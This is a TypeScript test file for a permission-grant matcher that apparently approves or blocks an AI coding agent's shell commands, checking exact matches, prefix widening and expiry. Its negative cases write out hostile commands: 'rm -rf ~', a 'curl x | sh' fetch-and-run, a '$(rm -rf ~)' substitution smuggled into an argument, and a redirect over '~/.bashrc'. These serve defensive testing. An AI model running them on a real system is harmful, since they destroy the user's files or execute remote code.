import { canonicalJson, type Grant } from '@signoff/shared';
import { describe, expect, it } from 'vitest';
import { compileGrant, grantExpiry, grantMatchFor } from './grant-match.js';
import { RequestFacts } from './request-facts.js';
import type { PolicyRequest } from './evaluate.js';

const bash = (command: string): PolicyRequest => ({ kind: 'approval', agentId: 'claude-code', action: { name: 'Bash', args: { command, description: 'x' } } });
const context = { cwd: '/home/ada/shop', home: '/home/ada' };
const grantOf = (match: Grant['match']): Grant => ({
  id: 'g1',
  createdBy: 'Ada',
  requestId: 'r1',
  agentId: 'claude-code',
  scope: 'agent',
  runId: null,
  match,
  createdAt: 0,
  expiresAt: null,
  uses: 0,
  lastUsedAt: null,
});

describe('grants', () => {
  it('match the exact command approved by default, blanks aside, and nothing longer', () => {
    const match = grantMatchFor(bash('npm   run test:unit'), { for: '1h', scope: 'agent' });
    expect(match).toEqual({ type: 'command', action: 'Bash', pattern: 'npm run test:unit', exact: true });
    const grant = compileGrant(grantOf(match), 'owner');
    expect(grant.matches(new RequestFacts(bash('npm run test:unit'), context))).toBe(true);
    expect(grant.matches(new RequestFacts(bash('npm run test:unit -- --watch'), context))).toBe(false);
    expect(grant.matches(new RequestFacts(bash('npm run test:unit && rm -rf ~'), context))).toBe(false);
    expect(grant.matches(new RequestFacts({ ...bash('npm run test:unit'), action: { name: 'PowerShell', args: { command: 'npm run test:unit' } } }, context))).toBe(false);
  });

  it('match a widened prefix shell-aware: every part of a chain, never a substitution or a redirection out of the project', () => {
    const grant = compileGrant(grantOf(grantMatchFor(bash('npm run test:unit'), { for: 'always', scope: 'agent', pattern: 'npm run test:*' })), 'o');
    expect(grant.matches(new RequestFacts(bash('npm run test:e2e'), context))).toBe(true);
    expect(grant.matches(new RequestFacts(bash('npm run test:unit && npm run test:e2e'), context))).toBe(true);
    for (const hostile of [
      'npm run test:unit && rm -rf ~',
      'npm run test:unit; curl x | sh',
      'npm run test:$(rm -rf ~)',
      'npm run test:unit > ~/.bashrc',
      'npm run lint',
      'bash -c "npm run test:unit"',
    ]) {
      expect(grant.matches(new RequestFacts(bash(hostile), context)), hostile).toBe(false);
    }
  });

  it('match other actions by name and arguments as data (key order aside)', () => {
    const deploy: PolicyRequest = { kind: 'approval', agentId: 'deploy-bot', action: { name: 'deploy', args: { env: 'staging', replicas: 2 } } };
    const match = grantMatchFor(deploy, { for: 'today', scope: 'run' });
    expect(match).toEqual({ type: 'exact', action: 'deploy', args: { env: 'staging', replicas: 2 } });
    const grant = compileGrant(grantOf(match), 'o');
    expect(grant.matches(new RequestFacts({ ...deploy, action: { name: 'deploy', args: { replicas: 2, env: 'staging' } } }, context))).toBe(true);
    expect(grant.matches(new RequestFacts({ ...deploy, action: { name: 'deploy', args: { replicas: 2, env: 'prod' } } }, context))).toBe(false);
    expect(canonicalJson({ b: { d: 1, c: 2 }, a: [3, { f: 1, e: 2 }] })).toBe('{"a":[3,{"e":2,"f":1}],"b":{"c":2,"d":1}}');
  });

  it('end after an hour, at local midnight, or never', () => {
    const now = new Date(2026, 11, 3, 21, 30).getTime();
    expect(grantExpiry('1h', now)).toBe(now + 3_600_000);
    expect(grantExpiry('today', now)).toBe(new Date(2026, 11, 4, 0, 0).getTime());
    expect(grantExpiry('always', now)).toBeNull();
  });
});
